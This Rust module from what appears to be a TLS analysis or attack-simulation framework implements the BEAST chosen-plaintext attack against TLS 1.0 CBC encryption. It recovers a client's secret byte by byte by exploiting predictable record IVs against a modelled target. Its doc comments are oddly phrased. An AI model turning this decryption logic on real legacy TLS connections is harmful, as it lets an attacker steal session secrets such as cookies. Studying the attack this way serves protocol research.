//! BEAST: chosen words under an IV that is known beforehand (Duong and Rizzo, "Here come the XOR ninjas", 2011).
//!
//! In TLS 1.0 the IV of a record is the last block of the record before (RFC 2246 section 6.2.3.2). A script of hers in
//! the client's browser says words in the client's own connection:
//!
//! 1. It lets the secret begin so that one unknown byte of it is the last of a block. What is in front of it is known.
//! 2. For a guess `G` of that block `P`, which followed `C'`, it says `G xor C' xor IV`. The cipher takes in `G xor C'`: if
//!    the block that comes out is that of `P`, the guess was right.
//! 3. It goes on with the next byte, in a new connection.
//!
//! From TLS 1.1 on the IV is drawn behind the words (RFC 4346 section 6.2.3.2): she says the same, and no block is alike.

use super::{
    Outcome,
    blocks::{Blocks, xor},
    gain,
    guess::guess,
    recording::{Recording, words_of},
    target::{Connection, Target},
};
use padlock_tls::{ledger::Value, party::Whose};

#[derive(Clone, Debug)]
pub(super) struct Beast {
    blocks: Blocks,
    /// The record of the secret.
    recorded: Value,
    length: Option<usize>,
    known: Vec<u8>,
    trial: Option<Trial>,
}

/// The guesses of one byte.
#[derive(Clone, Debug)]
struct Trial {
    connection: Connection,
    /// The block before the one that is sought.
    before: Vec<u8>,
    /// The block that is sought.
    block: Vec<u8>,
    /// What its plaintext begins with.
    begins: Vec<u8>,
    rank: usize,
}

impl Beast {
    pub fn new(recording: &Recording) -> Option<Self> {
        Some(Self {
            blocks: Blocks::of(recording.session()?)?,
            recorded: recording.records(Whose::Client).into_iter().next()?,
            length: None,
            known: vec![],
            trial: None,
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        let Some(length) = self.length else {
            let mut connection = target.connect()?;
            self.length = Some(self.blocks.secret_length(target, &mut connection)?);
            return Some(Outcome::Going);
        };
        if self.known.len() == length {
            let words = words_of(&self.recorded, self.known.clone());
            return Some(Outcome::values(vec![gain(
                words,
                vec![self.recorded.clone()],
            )]));
        }
        match self.trial.take() {
            None => self.trial = Some(self.begin(target)?),
            Some(trial) => self.go_on(trial, target)?,
        }
        Some(Outcome::Going)
    }

    /// Lets the client say the secret, its next byte the last of a block.
    fn begin(&self, target: &mut Target) -> Option<Trial> {
        let mut connection = target.connect()?;
        let filler = self.blocks.fill_before(self.known.len());
        let last = connection.last().to_vec();
        let record = target
            .client_says_secret(&mut connection, &filler, &[])
            .pop()?;
        let cut = self.blocks.cut(&record, &last);
        let begins = [filler, self.known.clone()].concat();
        let at = begins.len() / self.blocks.length;
        let whole = at * self.blocks.length;
        Some(Trial {
            connection,
            before: cut.get(at)?.clone(),
            block: cut.get(at + 1)?.clone(),
            begins: begins.get(whole..)?.to_vec(),
            rank: 0,
        })
    }

    /// Lets the client say a guess; `None` when there is none left.
    fn go_on(&mut self, mut trial: Trial, target: &mut Target) -> Option<()> {
        let byte = guess(trial.rank)?;
        trial.rank += 1;
        let plaintext = [trial.begins.as_slice(), &[byte]].concat();
        let last = trial.connection.last().to_vec();
        let iv = self.blocks.last(&last)?;
        let words = xor(&xor(&plaintext, &trial.before), &iv);
        let records = target.client_says(&mut trial.connection, &words);
        let cut = self.blocks.cut(records.first()?, &last);
        match cut.get(1) == Some(&trial.block) {
            true => self.known.push(byte),
            false => self.trial = Some(trial),
        }
        Some(())
    }
}
